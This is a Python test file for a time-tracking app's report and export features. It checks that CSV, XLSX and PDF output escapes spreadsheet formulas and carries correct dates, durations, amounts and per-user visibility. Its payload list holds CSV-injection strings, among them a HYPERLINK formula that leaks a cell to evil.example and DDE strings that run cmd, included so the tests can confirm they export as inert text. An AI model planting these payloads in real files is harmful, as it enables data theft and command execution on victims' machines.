"""Reports and exports as files: no formula gets out, spreadsheets carry real dates,
durations and amounts, PDFs read back as text, and LibreOffice opens what we write."""

import asyncio
import csv
import functools
import io
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from httpx import AsyncClient
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
from typer.testing import CliRunner

from app.cli import cli
from app.db.engine import Sessions
from app.db.models import Project, TimeEntry, Workspace
from app.enums import ImportFormat
from app.reports.cells import escape_formula, unescape_formula
from app.repositories.time_entries import EntryFilters
from app.services.exports import ExportFormat, ExportScope, export_entries
from tests.factories import (
    Team,
    auth_headers,
    make_client,
    make_entry,
    make_membership,
    make_project,
    make_tag,
    make_workspace,
)
from tests.problems import assert_problem
from tests.test_imports import run_import
from tests.tracking import tag_entry

# From the OWASP CSV injection page and the usual variants: each must come back as text.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@SUM(A1)",
    "'plain quote",
    "-",
    "=",
]
START = datetime(2026, 11, 23, 8, tzinfo=UTC)  # Monday, 09:00 in Berlin
HOUR = timedelta(hours=1)
LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")
POPPLER = shutil.which("pdftotext") and shutil.which("pdftoppm")


def hours_in(value: Any) -> float:
    """A `[h]:mm` cell as hours: openpyxl reads it as a timedelta."""
    assert isinstance(value, timedelta), value
    return value.total_seconds() / 3600


def export_url(workspace: Workspace) -> str:
    return f"/api/v1/workspaces/{workspace.id}/time-entries/export"


def report_url(workspace: Workspace, name: str) -> str:
    return f"/api/v1/workspaces/{workspace.id}/reports/{name}"


def test_escaping_is_undone_exactly() -> None:
    for text in [*FORMULA_PAYLOADS, "", "plain", "'", "''", "a=b", " =x", "'a"]:
        escaped = escape_formula(text)
        assert unescape_formula(escaped) == text, text
        assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r")), text
    assert escape_formula("=1+1") == "'=1+1"
    assert escape_formula("'=1+1") == "''=1+1"
    assert escape_formula("'plain") == "'plain"  # no formula behind it: left alone
    assert unescape_formula("'plain") == "'plain"


async def tracked(session: AsyncSession, team: Team) -> list[TimeEntry]:
    """One entry per payload, on a project and a client whose names are payloads too."""
    acme = await make_client(session, team.workspace, name="=Acme")
    site = await make_project(session, team.workspace, name="+Site", client_id=acme.id)
    tag = await make_tag(session, team.workspace, name="@tag")
    entries = []
    for index, payload in enumerate(FORMULA_PAYLOADS):
        entry = await make_entry(
            session,
            team.workspace,
            team.member,
            project_id=site.id,
            start_at=START + index * 2 * HOUR,
            end_at=START + index * 2 * HOUR + 90 * timedelta(minutes=1),
            description=payload,
            billable=True,
            hourly_rate_cents=10000,
        )
        await tag_entry(session, entry, tag)
        entries.append(entry)
    return entries


async def test_csv_exports_carry_no_formula_and_native_csv_round_trips(
    client: AsyncClient, session: AsyncSession, team: Team
) -> None:
    await tracked(session, team)
    headers = auth_headers(team.owner)
    first = await client.get(export_url(team.workspace), params={"format": "csv"}, headers=headers)
    rows = list(csv.DictReader(io.StringIO(first.text)))
    assert [row["description"] for row in rows] == [escape_formula(p) for p in FORMULA_PAYLOADS]
    assert {(row["client"], row["project"]) for row in rows} == {("'=Acme", "'+Site")}
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
    toggl = await client.get(
        export_url(team.workspace), params={"format": "toggl_csv"}, headers=headers
    )
    toggl_rows = list(csv.DictReader(io.StringIO(toggl.text)))
    assert [row["Description"] for row in toggl_rows] == [
        escape_formula(p) for p in FORMULA_PAYLOADS
    ]
    assert toggl_rows[0]["Tags"] == "'@tag"

    # Imported into another workspace, then exported again: the same texts, the same file.
    copy = await make_workspace(session, owner=team.owner)
    await make_membership(session, copy, team.member)
    report = await run_import(session, copy, first.content, ImportFormat.NATIVE_CSV)
    assert (report.created, report.failed) == (len(FORMULA_PAYLOADS), 0)
    stored = await session.scalars(
        select(TimeEntry.description)
        .where(TimeEntry.workspace_id == copy.id)
        .order_by(TimeEntry.start_at)
    )
    assert list(stored) == FORMULA_PAYLOADS
    names = await session.scalars(select(Project.name).where(Project.workspace_id == copy.id))
    assert list(names) == ["+Site"]
    second = await client.get(export_url(copy), params={"format": "csv"}, headers=headers)
    again = list(csv.DictReader(io.StringIO(second.text)))
    columns = ["user_email", "client", "project", "description", "start_at", "end_at", "tags"]
    assert [[row[c] for c in columns] for row in again] == [
        [row[c] for c in columns] for row in rows
    ]


async def entries_workbook(
    client: AsyncClient, session: AsyncSession, team: Team, tmp_path: Path
) -> Path:
    team.owner.timezone = "Europe/Berlin"
    await session.flush()
    response = await client.get(
        export_url(team.workspace), params={"format": "xlsx"}, headers=auth_headers(team.owner)
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert ".xlsx" in response.headers["content-disposition"]
    path = tmp_path / "entries.xlsx"
    path.write_bytes(response.content)
    return path


async def test_the_xlsx_export_has_typed_cells_local_times_and_totals(
    client: AsyncClient, session: AsyncSession, team: Team, tmp_path: Path
) -> None:
    team.workspace.currency = "EUR"
    await tracked(session, team)
    await session.flush()
    sheet = openpyxl.load_workbook(await entries_workbook(client, session, team, tmp_path)).active
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=False))
    header = [cell.value for cell in rows[0]]
    assert header[:11] == [
        "User", "Email", "Client", "Project", "Task", "Description", "Billable",
        "Start", "End", "Duration", "Tags",
    ]  # fmt: skip
    assert header[11:] == ["Rate", "Amount"]
    body, totals = rows[1:-1], rows[-1]
    assert len(body) == len(FORMULA_PAYLOADS)
    for row, payload in zip(body, FORMULA_PAYLOADS, strict=True):
        description = row[5]
        # XLSX writes a carriage return as `_x000D_`; openpyxl leaves inline strings as stored.
        shown = description.value.replace("_x000D_", "\r")
        assert (description.data_type, shown) == ("s", payload)
        assert row[2].value == "=Acme" and row[2].data_type == "s"
    first = body[0]
    # 08:00 UTC is 09:00 in Berlin in November; 90 minutes; 1.5 h at 100.00 €.
    assert first[7].value == datetime(2026, 11, 23, 9, 0)
    assert first[8].value == datetime(2026, 11, 23, 10, 30)
    assert hours_in(first[9].value) == 1.5
    assert first[9].number_format == "[h]:mm"
    assert (first[11].value, first[12].value) == (100, 150)
    assert "€" in first[12].number_format
    assert totals[0].value == "Total"
    assert hours_in(totals[9].value) == 1.5 * len(FORMULA_PAYLOADS)
    assert totals[12].value == 150 * len(FORMULA_PAYLOADS)


async def test_an_export_reports_its_progress_by_batch(
    sessions: Sessions, session: AsyncSession, team: Team
) -> None:
    await tracked(session, team)
    scope = ExportScope(team.workspace, viewer_id=None, shows_rates=True)
    for export_format in (ExportFormat.CSV, ExportFormat.XLSX):
        counted: list[int] = []
        chunks = export_entries(
            sessions, scope, EntryFilters(), export_format, batch_size=5, progress=counted.append
        )
        assert [chunk async for chunk in chunks]
        assert counted == [5, 5, len(FORMULA_PAYLOADS) - 10]


async def test_members_export_their_own_entries_without_amounts(
    client: AsyncClient, session: AsyncSession, team: Team, tmp_path: Path
) -> None:
    await tracked(session, team)
    await make_entry(session, team.workspace, team.admin, start_at=START - 3 * HOUR)
    response = await client.get(
        export_url(team.workspace), params={"format": "xlsx"}, headers=auth_headers(team.member)
    )
    (tmp_path / "mine.xlsx").write_bytes(response.content)
    sheet = openpyxl.load_workbook(tmp_path / "mine.xlsx").active
    rows = list(sheet.iter_rows(values_only=True))
    assert "Amount" not in rows[0]
    assert {row[1] for row in rows[1:-1]} == {team.member.email}


@pytest.mark.skipif(
    LIBREOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc)"
)
async def test_libreoffice_reads_the_same_numbers(
    client: AsyncClient, session: AsyncSession, team: Team, tmp_path: Path
) -> None:
    team.workspace.currency = "USD"
    await tracked(session, team)
    path = await entries_workbook(client, session, team, tmp_path)
    convert = functools.partial(
        subprocess.run,
        [
            str(LIBREOFFICE),
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            # Comma, double quotes, UTF-8, from line 1, ..., cells as shown (formats applied).
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    await asyncio.to_thread(convert)
    rows = list(csv.reader(io.StringIO((tmp_path / "entries.csv").read_text())))
    assert rows[0][:3] == ["User", "Email", "Client"]
    first = rows[1]
    assert first[5] == FORMULA_PAYLOADS[0]  # shown as text, never run
    assert first[7:10] == ["2026-11-23 09:00", "2026-11-23 10:30", "1:30"]
    assert (first[11], first[12]) == ("$100.00", "$150.00")
    total = rows[-1]
    assert total[0] == "Total"
    assert total[9] == f"{len(FORMULA_PAYLOADS) * 3 // 2}:{30 * (len(FORMULA_PAYLOADS) % 2):02d}"
    assert total[12] == f"${150 * len(FORMULA_PAYLOADS):,}.00"


async def summary_data(session: AsyncSession, team: Team) -> None:
    """Website: 2 h + 1 h 30 billable at 80.00; Internal: 45 min, not billable."""
    team.workspace.currency = "EUR"
    await session.flush()
    site = await make_project(session, team.workspace, name="Website")
    internal = await make_project(session, team.workspace, name="Internal")
    for user, start, minutes in ((team.admin, START, 120), (team.member, START + 3 * HOUR, 90)):
        await make_entry(
            session,
            team.workspace,
            user,
            project_id=site.id,
            start_at=start,
            end_at=start + timedelta(minutes=minutes),
            billable=True,
            hourly_rate_cents=8000,
            description="Design <review> & fix",
        )
    await make_entry(
        session,
        team.workspace,
        team.member,
        project_id=internal.id,
        start_at=START + 24 * HOUR,
        end_at=START + 24 * HOUR + timedelta(minutes=45),
        description="Standup",
    )


def pdf_text(content: bytes, tmp_path: Path) -> str:
    assert content.startswith(b"%PDF")
    path = tmp_path / "report.pdf"
    path.write_bytes(content)
    if not POPPLER:
        pytest.skip("poppler-utils is not installed (apt-get install poppler-utils)")
    subprocess.run(  # noqa: S603
        ["pdftoppm", "-png", "-r", "40", "-singlefile", str(path), str(tmp_path / "page")],  # noqa: S607
        check=True,
        timeout=60,
    )
    assert (tmp_path / "page.png").stat().st_size > 1000
    result = subprocess.run(  # noqa: S603
        ["pdftotext", "-layout", str(path), "-"],  # noqa: S607
        check=True,
        capture_output=True,
        timeout=60,
    )
    return result.stdout.decode()


async def test_the_summary_as_pdf_and_xlsx(
    client: AsyncClient, session: AsyncSession, team: Team, tmp_path: Path
) -> None:
    await summary_data(session, team)
    params: dict[str, Any] = {
        "group_by": "project",
        "sub_group_by": "user",
        "from": "2026-11-23",
        "to": "2026-11-30",
        "tz": "Europe/Berlin",
        "billable": "true",
    }
    url = report_url(team.workspace, "summary")
    headers = auth_headers(team.owner)
    response = await client.get(url, params={**params, "format": "pdf"}, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/pdf"
    text = pdf_text(response.content, tmp_path)
    assert "Summary report" in text and team.workspace.name in text
    assert "2026-11-23 to 2026-11-29 (Europe/Berlin)" in text
    assert "billable only" in text
    # 3 h 30 billable at 80.00 €: 280.00 EUR, in the heading and the table's total.
    assert "Total: 3:30 h, billable 3:30 h, 280.00 EUR" in text
    assert "Website" in text and "Internal" not in text.split("Filters")[1].split("Total")[0]
    assert team.admin.full_name in text and team.member.full_name in text

    response = await client.get(url, params={**params, "format": "xlsx"}, headers=headers)
    (tmp_path / "summary.xlsx").write_bytes(response.content)
    book = openpyxl.load_workbook(tmp_path / "summary.xlsx")
    rows = list(book["Summary"].iter_rows(values_only=True))
    assert rows[0] == ("Group", "Sub-group", "Hours", "Billable hours", "Amount")
    assert rows[1][:2] == ("Website", None)
    assert hours_in(rows[1][2]) == 3.5 and rows[1][4] == 280
    assert sorted(row[1] for row in rows[2:4]) == sorted(
        [team.admin.full_name, team.member.full_name]
    )
    assert rows[-1][0] == "Total" and rows[-1][4] == 280
    about = dict(book["Report"].iter_rows(values_only=True))
    assert about["Workspace"] == team.workspace.name
    assert about["Filters"] == "billable only"

    member = await client.get(
        url, params={**params, "format": "xlsx"}, headers=auth_headers(team.member)
    )
    (tmp_path / "member.xlsx").write_bytes(member.content)
    member_rows = list(openpyxl.load_workbook(tmp_path / "member.xlsx")["Summary"].values)
    assert "Amount" not in member_rows[0]  # members of this workspace see no rates
    assert hours_in(member_rows[-1][2]) == 1.5  # their own time only
    assert_problem(await client.get(url, params={**params, "format": "doc"}, headers=headers), 422)


async def test_the_detailed_report_groups_entries_with_subtotals(
    client: AsyncClient, session: AsyncSession, team: Team, tmp_path: Path
) -> None:
    await summary_data(session, team)
    url = report_url(team.workspace, "detailed")
    headers = auth_headers(team.owner)
    params = {"from": "2026-11-23", "to": "2026-11-30", "tz": "Europe/Berlin"}
    by_day = (await client.get(url, params=params, headers=headers)).json()
    assert [group["key"] for group in by_day["groups"]] == ["2026-11-23", "2026-11-24"]
    monday = by_day["groups"][0]
    assert (monday["seconds"], monday["amount_cents"]) == (12600, 28000)
    assert [entry["seconds"] for entry in monday["entries"]] == [7200, 5400]
    assert [entry["amount_cents"] for entry in monday["entries"]] == [16000, 12000]
    assert by_day["totals"] == {"seconds": 15300, "billable_seconds": 12600, "amount_cents": 28000}

    by_project = await client.get(url, params={**params, "group_by": "project"}, headers=headers)
    assert [group["label"] for group in by_project.json()["groups"]] == ["Internal", "Website"]

    response = await client.get(
        url, params={**params, "group_by": "project", "format": "pdf"}, headers=headers
    )
    text = pdf_text(response.content, tmp_path)
    assert "Detailed report" in text
    assert "Design <review> & fix" in text and "Standup" in text
    assert "Subtotal" in text and "3:30" in text and "0:45" in text
    assert "280.00 EUR" in text

    workbook = await client.get(url, params={**params, "format": "xlsx"}, headers=headers)
    (tmp_path / "detailed.xlsx").write_bytes(workbook.content)
    rows = list(openpyxl.load_workbook(tmp_path / "detailed.xlsx").active.values)
    assert len(rows) == 1 + 3 + 1

    mine = (await client.get(url, params=params, headers=auth_headers(team.member))).json()
    assert mine["totals"] == {"seconds": 8100, "billable_seconds": 5400, "amount_cents": None}


@pytest.mark.committed
async def test_the_command_line_writes_the_same_files(
    database_url: str,
    sessionmaker: async_sessionmaker[AsyncSession],
    committed_team: Team,
    tmp_path: Path,
) -> None:
    team = committed_team
    async with sessionmaker() as session:
        await summary_data(session, team)
        await session.commit()
    env = {"DATABASE_URL": database_url, "ENVIRONMENT": "test"}
    workspace = ["--workspace", str(team.workspace.id)]

    def run(*args: str) -> bytes:
        result = CliRunner().invoke(cli, [*args], env=env)
        assert result.exit_code == 0, result.output
        return result.stdout_bytes

    workbook = await asyncio.to_thread(
        run, "export", *workspace, "--format", "xlsx", "--timezone", "Europe/Berlin"
    )
    (tmp_path / "cli.xlsx").write_bytes(workbook)
    rows = list(openpyxl.load_workbook(tmp_path / "cli.xlsx").active.values)
    assert len(rows) == 1 + 3 + 1 and rows[1][7] == datetime(2026, 11, 23, 9, 0)
    assert rows[-1][-1] == 280  # the owner's export shows amounts

    detailed = await asyncio.to_thread(
        run, "export", *workspace, "--format", "pdf", "--from", "2026-11-23"
    )
    assert "Detailed report" in pdf_text(detailed, tmp_path)

    summary = await asyncio.to_thread(
        run, "report", "summary", *workspace, "--group-by", "project", "--format", "pdf"
    )
    text = pdf_text(summary, tmp_path)
    assert "Website" in text and "Internal" in text and "280.00" in text

    weekly = await asyncio.to_thread(
        run, "report", "weekly", *workspace, "--week", "2026-W48", "--tz", "UTC", "--format", "csv"
    )
    lines = list(csv.reader(io.StringIO(weekly.decode())))
    assert lines[-1] == ["Total", "3:30", "0:45", "0:00", "0:00", "0:00", "0:00", "0:00", "4:15"]

    bad = CliRunner().invoke(cli, ["report", "weekly", *workspace, "--week", "soon"], env=env)
    assert bad.exit_code == 2 and "week" in bad.output
